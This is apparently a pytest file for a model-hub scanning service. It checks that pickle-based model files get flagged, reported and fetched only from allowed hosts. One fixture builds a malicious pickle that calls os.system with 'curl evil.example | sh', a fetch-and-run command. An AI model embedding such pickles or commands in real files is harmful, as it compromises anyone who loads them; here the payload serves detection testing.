"""A file's scan from its url to its verdict, with the hub's files served over real HTTP on 127.0.0.1."""

import hashlib
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest

from hub.models import HubEvent
from reports.models import Report
from scanning.models import FileScan
from scanning.services import file_scan_run
from tests.scanning import corpus


class StaticFiles:
    """Serves fixed bytes by path and counts the requests for each."""

    def __init__(self, files: dict[str, bytes]):
        self.files, self.requests = files, {path: 0 for path in files}
        served = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                body = served.files.get(self.path)
                served.requests[self.path] = served.requests.get(self.path, 0) + 1
                self.send_response(200 if body is not None else 404)
                self.send_header("Content-Length", str(len(body or b"")))
                self.end_headers()
                self.wfile.write(body or b"")

            def log_message(self, *args) -> None:
                pass

        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.netloc = f"127.0.0.1:{self._server.server_address[1]}"
        threading.Thread(target=self._server.serve_forever, args=(0.05,), daemon=True).start()

    def url(self, path: str) -> str:
        return f"http://{self.netloc}{path}"

    def stop(self) -> None:
        self._server.shutdown()
        self._server.server_close()


DANGEROUS = corpus.torch_zip(corpus.pickle_call(2, "os", "system", "curl evil.example | sh"))
WEIGHTS = corpus.safetensors_valid()


@pytest.fixture
def files(settings) -> Iterator[StaticFiles]:
    served = StaticFiles({"/model.bin": DANGEROUS, "/model.safetensors": WEIGHTS, "/liar.bin": b"other bytes"})
    settings.SCAN_FETCH_ALLOWED_HOSTS = [served.netloc]
    yield served
    served.stop()


def sha(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


def sync(hub_api, name: str, served: StaticFiles, entries: list[tuple[str, bytes, str]]) -> None:
    body = {"kind": "model", "revision": "0123abcd",
            "files": [{"path": path, "sha256": sha(data), "size": len(data), "url": served.url(route)}
                      for path, data, route in entries]}  # fmt: skip
    assert hub_api.put(f"/api/v1/hub/repositories/acme/{name}", body, format="json").status_code in (200, 201)


@pytest.mark.django_db
def test_a_pickle_that_calls_os_system_is_dangerous_and_reported_and_weights_are_clean(seeded, hub_api, files):
    sync(hub_api, "tiny", files, [("pytorch_model.bin", DANGEROUS, "/model.bin"),
                                  ("model.safetensors", WEIGHTS, "/model.safetensors")])  # fmt: skip

    assert file_scan_run(sha256=sha(DANGEROUS)) == "dangerous"
    assert file_scan_run(sha256=sha(WEIGHTS)) == "clean"

    scan = FileScan.objects.get(sha256=sha(DANGEROUS))
    assert {result["name"] for result in scan.scanners} >= {"picklescan", "fickling"}
    assert all(result["version"] for result in scan.scanners)
    [report] = Report.objects.filter(source=Report.Source.AUTOMATED)
    assert (report.path, report.category, report.case.repository.full_name) == (
        "pytorch_model.bin",
        "malicious_code",
        "acme/tiny",
    )
    assert "os.system" in report.details["behaviour"]
    [event] = HubEvent.objects.filter(type="scan.completed")
    assert event.payload["verdict"] == "dangerous"


@pytest.mark.django_db
def test_the_same_bytes_under_another_repository_are_not_fetched_again(seeded, hub_api, files):
    sync(hub_api, "tiny", files, [("pytorch_model.bin", DANGEROUS, "/model.bin")])
    file_scan_run(sha256=sha(DANGEROUS))
    sync(hub_api, "copy", files, [("model.bin", DANGEROUS, "/model.bin")])

    assert files.requests["/model.bin"] == 1
    assert Report.objects.filter(source=Report.Source.AUTOMATED, case__repository__name="copy").count() == 1


@pytest.mark.django_db
def test_bytes_that_are_not_what_the_hub_declared_are_an_error_saying_so(seeded, hub_api, files):
    sync(hub_api, "tiny", files, [("model.bin", DANGEROUS, "/liar.bin")])

    assert file_scan_run(sha256=sha(DANGEROUS)) == "error"
    scan = FileScan.objects.get(sha256=sha(DANGEROUS))
    assert scan.reason.startswith("digest mismatch")
    assert not Report.objects.filter(source=Report.Source.AUTOMATED).exists()


@pytest.mark.django_db
def test_a_host_not_allowed_is_skipped_saying_which(seeded, hub_api, files, settings):
    sync(hub_api, "tiny", files, [("model.bin", DANGEROUS, "/model.bin")])
    settings.SCAN_FETCH_ALLOWED_HOSTS = ["files.example"]

    assert file_scan_run(sha256=sha(DANGEROUS)) in ("error", "skipped")
    assert "not allowed" in FileScan.objects.get(sha256=sha(DANGEROUS)).reason
    assert files.requests["/model.bin"] == 0
